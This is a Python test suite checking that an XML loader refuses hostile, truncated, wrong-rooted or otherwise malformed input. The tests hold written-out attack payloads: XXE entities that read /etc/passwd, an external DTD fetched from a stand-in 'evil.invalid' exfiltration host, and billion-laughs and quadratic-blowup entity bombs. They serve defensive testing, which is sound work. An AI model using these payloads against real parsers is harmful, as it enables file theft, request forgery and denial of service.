"""load_xml refuses hostile or broken input, each with its own error class and message."""

from __future__ import annotations

import contextlib
import random
import time
from pathlib import Path

import pytest

from gateway.errors import DecodeError, GatewayError, PayloadTooLargeError
from schemas.xml_safety import (
    EmptyXMLError,
    EntityExpansionError,
    EntityReferenceError,
    ExternalEntityError,
    InternalEntityError,
    MalformedXMLError,
    NotXMLError,
    TruncatedXMLError,
    UnexpectedRootError,
    XMLEncodingError,
    XMLEntityError,
    XMLLoadError,
    XMLResourceLimitError,
    XMLSecurityError,
    XMLTooLargeError,
    load_xml,
)

SHARED = Path(__file__).resolve().parents[3].parent / "shared"
R3_ACK_ROOT = "{urn:hl7-org:v3}MCCI_IN200101UV01"


def _refused(data: bytes, error: type[XMLLoadError], **kwargs: object) -> XMLLoadError:
    with pytest.raises(error) as info:
        load_xml(data, **kwargs)  # type: ignore[arg-type]
    exc = info.value
    # a clear message of ours: never lxml's exception, never a traceback
    assert isinstance(exc, GatewayError)
    assert not exc.retriable
    assert exc.__cause__ is None
    assert "Traceback" not in str(exc)
    assert str(exc).startswith("XML ")
    return exc


def test_xxe_file_etc_passwd_is_refused_without_reading_the_file() -> None:
    data = (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        b"<r>&xxe;</r>"
    )
    exc = _refused(data, ExternalEntityError)
    assert isinstance(exc, XMLEntityError)
    assert isinstance(exc, XMLSecurityError)
    assert isinstance(exc, DecodeError)
    assert "external entity 'xxe'" in str(exc)
    assert "file:///etc/passwd" in str(exc)
    assert "XXE" in str(exc)
    assert "root:" not in str(exc)


def test_xxe_through_public_identifier_is_refused() -> None:
    data = b'<!DOCTYPE r [<!ENTITY x PUBLIC "-//EVIL//X" "http://127.0.0.1:9/secret">]><r>&x;</r>'
    exc = _refused(data, ExternalEntityError)
    assert "http://127.0.0.1:9/secret" in str(exc)


def test_external_dtd_with_external_parameter_entity_is_refused() -> None:
    data = (
        b'<!DOCTYPE r SYSTEM "http://evil.invalid/outer.dtd" [\n'
        b'  <!ENTITY % remote SYSTEM "http://evil.invalid/exfiltrate.dtd">\n'
        b"  %remote;\n"
        b"]>\n<r/>"
    )
    exc = _refused(data, ExternalEntityError)
    assert "parameter entity 'remote'" in str(exc)
    assert "http://evil.invalid/exfiltrate.dtd" in str(exc)


def test_external_dtd_with_internal_entity_declaration_is_refused() -> None:
    data = b'<!DOCTYPE r SYSTEM "icsr21xml.dtd" [<!ENTITY company "ACME">]><r>&company;</r>'
    exc = _refused(data, InternalEntityError)
    assert "'company'" in str(exc)


def test_parameter_entity_reference_in_internal_subset_is_refused() -> None:
    data = b'<!DOCTYPE r SYSTEM "http://evil.invalid/x.dtd" [ %defs; ]><r/>'
    exc = _refused(data, EntityReferenceError)
    assert "%defs;" in str(exc)


def test_billion_laughs_is_refused_quickly() -> None:
    levels = [b'<!ENTITY lol0 "lol">']
    for i in range(1, 10):
        levels.append(b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10))
    data = b'<?xml version="1.0"?><!DOCTYPE lolz [' + b"".join(levels) + b"]><lolz>&lol9;</lolz>"
    started = time.monotonic()
    exc = _refused(data, EntityExpansionError)
    assert time.monotonic() - started < 1.0
    assert "billion laughs" in str(exc)
    assert "'lol1'" in str(exc)


def test_quadratic_blowup_is_refused() -> None:
    big = b"A" * 100_000
    data = (
        b'<!DOCTYPE kaboom [<!ENTITY a "' + big + b'">]><kaboom>' + b"&a;" * 20_000 + b"</kaboom>"
    )
    started = time.monotonic()
    exc = _refused(data, InternalEntityError)
    assert time.monotonic() - started < 1.0
    assert "'a'" in str(exc)
    assert "100000 characters" in str(exc)
    assert "quadratic" in str(exc)


def test_entity_declaration_hidden_after_a_comment_in_the_subset_is_found() -> None:
    data = b'<!DOCTYPE r [<!-- ]> --><!ATTLIST r a CDATA "]>"><!ENTITY x "y">]><r>&x;</r>'
    _refused(data, InternalEntityError)


def test_undeclared_entity_with_external_dtd_is_refused_not_dropped() -> None:
    data = b'<!DOCTYPE ichicsr SYSTEM "icsr21xml.dtd"><ichicsr lang="en">caf&eacute;</ichicsr>'
    exc = _refused(data, EntityReferenceError)
    assert "&eacute;" in str(exc)


def test_undeclared_entity_without_dtd_is_refused() -> None:
    exc = _refused(b"<r>&nope;</r>", EntityReferenceError)
    assert "nope" in str(exc)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b'<?xml version="1.0"?><r><a>x</a><b>yy', id="inside-text"),
        pytest.param(b'<?xml version="1.0"?><r><a>x</a><b', id="inside-start-tag"),
        pytest.param(b'<?xml version="1.0"?><r><a>x</a></', id="inside-end-tag"),
        pytest.param(b'<?xml version="1.0"?><r a="x', id="inside-attribute"),
        pytest.param(b"<r>x</r><!-- unfinished", id="inside-trailing-comment"),
        pytest.param(b'<?xml version="1.0" encoding="UT', id="inside-xml-declaration"),
        pytest.param(b'<!DOCTYPE r SYSTEM "icsr', id="inside-doctype"),
        pytest.param(b'<?xml version="1.0"?>\n', id="before-root"),
    ],
)
def test_truncated_file_is_refused(data: bytes) -> None:
    exc = _refused(data, TruncatedXMLError)
    assert isinstance(exc, MalformedXMLError)
    assert str(exc).startswith("XML truncated:")


@pytest.mark.parametrize("fraction", [0.1, 0.5, 0.9, 0.999])
def test_truncated_fda_acknowledgement_is_refused(fraction: float) -> None:
    sample = SHARED / "e2b" / "samples" / "fda-r3" / "R3ack-positive.ack"
    if not sample.exists():
        pytest.skip(f"shared E2B samples not found at {sample}")
    data = sample.read_bytes()
    _refused(data[: int(len(data) * fraction)], TruncatedXMLError)


def test_malformed_but_complete_file_is_not_called_truncated() -> None:
    exc = _refused(b"<r><a></b></r>", MalformedXMLError)
    assert not isinstance(exc, TruncatedXMLError)
    assert "mismatch" in str(exc)
    assert exc.line == 1


def test_pdf_is_refused_as_not_xml() -> None:
    data = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
    exc = _refused(data, NotXMLError)
    assert "PDF" in str(exc)


def test_json_is_refused_as_not_xml() -> None:
    exc = _refused(b'  {"safetyreportid": "US-1", "serious": true}', NotXMLError)
    assert "JSON" in str(exc)


def test_plain_text_is_refused_as_not_xml() -> None:
    exc = _refused(b"hello, this is not a report", NotXMLError)
    assert "does not start with '<'" in str(exc)


def test_wrong_root_is_refused() -> None:
    data = b'<MCCI_IN200100UV01 xmlns="urn:hl7-org:v3" ITSVersion="XML_1.0"/>'
    exc = _refused(data, UnexpectedRootError, expected_roots={R3_ACK_ROOT})
    assert isinstance(exc, UnexpectedRootError)
    assert exc.actual == "{urn:hl7-org:v3}MCCI_IN200100UV01"
    assert "MCCI_IN200101UV01" in str(exc)


def test_right_local_name_in_wrong_namespace_is_refused() -> None:
    data = b'<MCCI_IN200101UV01 xmlns="urn:evil"/>'
    exc = _refused(data, UnexpectedRootError, expected_roots={R3_ACK_ROOT})
    assert "{urn:evil}MCCI_IN200101UV01" in str(exc)


def test_namespaced_root_does_not_match_an_unnamespaced_expectation() -> None:
    data = b'<x:ichicsr xmlns:x="urn:evil" lang="en"/>'
    _refused(data, UnexpectedRootError, expected_roots={"ichicsr"})


def test_oversized_input_is_refused_before_parsing() -> None:
    # garbage that would be NotXMLError if it were parsed: the size check comes first
    exc = _refused(b"%PDF" + b"x" * 200, XMLTooLargeError, max_bytes=100)
    assert isinstance(exc, PayloadTooLargeError)
    assert "204 bytes" in str(exc)
    assert "100 bytes" in str(exc)


def test_input_exactly_at_the_limit_is_accepted() -> None:
    data = b"<r>" + b"x" * 93 + b"</r>"
    assert len(data) == 100
    assert load_xml(data, max_bytes=100).tag == "r"


@pytest.mark.parametrize("data", [b"", b"   \r\n\t ", b"\xef\xbb\xbf"], ids=["empty", "ws", "bom"])
def test_empty_input_is_refused(data: bytes) -> None:
    exc = _refused(data, EmptyXMLError)
    assert "empty" in str(exc)


def test_deep_nesting_hits_the_resource_limit() -> None:
    exc = _refused(b"<a>" * 5000 + b"</a>" * 5000, XMLResourceLimitError)
    assert "depth" in str(exc)


def test_invalid_bytes_for_the_encoding_are_refused() -> None:
    exc = _refused(b'<?xml version="1.0" encoding="UTF-8"?><r>\xff\xfe\xfd</r>', XMLEncodingError)
    assert "encoding" in str(exc)


def test_unknown_declared_encoding_is_refused() -> None:
    exc = _refused(b'<?xml version="1.0" encoding="x-klingon"?><r/>', XMLEncodingError)
    assert "x-klingon" in str(exc)


def test_str_input_is_a_programming_error() -> None:
    with pytest.raises(TypeError, match="bytes"):
        load_xml("<r/>")  # type: ignore[arg-type]


def test_mutated_documents_never_leak_lxml_errors() -> None:
    sample = SHARED / "e2b" / "samples" / "fda-r3" / "R3ack-negative.ack"
    if not sample.exists():
        pytest.skip(f"shared E2B samples not found at {sample}")
    original = sample.read_bytes()
    rng = random.Random(20240229)
    for _ in range(300):
        data = bytearray(original)
        for _ in range(rng.randint(1, 4)):
            position = rng.randrange(len(data))
            data[position] = rng.choice(b"<>&%;\"'![]?/\x00\xff")
        with contextlib.suppress(XMLLoadError):  # anything else fails the test
            load_xml(bytes(data))


def test_utf7_which_can_disguise_markup_is_refused() -> None:
    data = (
        b'<?xml version="1.0" encoding="UTF-7"?>'
        b"<!DOCTYPE r [+ADw-!ENTITY x SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-]><r>&x;</r>"
    )
    exc = _refused(data, XMLEncodingError)
    assert "UTF-7" in str(exc)


def test_character_references_in_an_entity_are_not_called_nesting() -> None:
    _refused(b'<!DOCTYPE r [<!ENTITY lt2 "&#60;">]><r>&lt2;</r>', InternalEntityError)


@pytest.mark.parametrize(
    ("data", "error"),
    [
        pytest.param(
            b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
            ExternalEntityError,
            id="xxe",
        ),
        pytest.param(
            b'<!DOCTYPE r [<!ENTITY a "aaaaaaaaaaaaaaaaaaaa">'
            + b"".join(
                b'<!ENTITY %c "%s">' % (ord("b") + i, (b"&%c;" % (ord("a") + i)) * 20)
                for i in range(8)
            )
            + b"]><r>&i;</r>",
            XMLSecurityError,
            id="billion-laughs",
        ),
        pytest.param(b'<!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>', InternalEntityError, id="plain"),
    ],
)
def test_parser_settings_and_tree_check_hold_without_the_prescan(
    monkeypatch: pytest.MonkeyPatch, data: bytes, error: type[XMLLoadError]
) -> None:
    # defence in depth: even if the DOCTYPE scan missed something, libxml2 (no entity
    # substitution, default limits) and the check of the parsed tree still refuse it
    monkeypatch.setattr("schemas.xml_safety.loader._prescan", lambda data: None)
    started = time.monotonic()
    _refused(data, error)
    assert time.monotonic() - started < 1.0
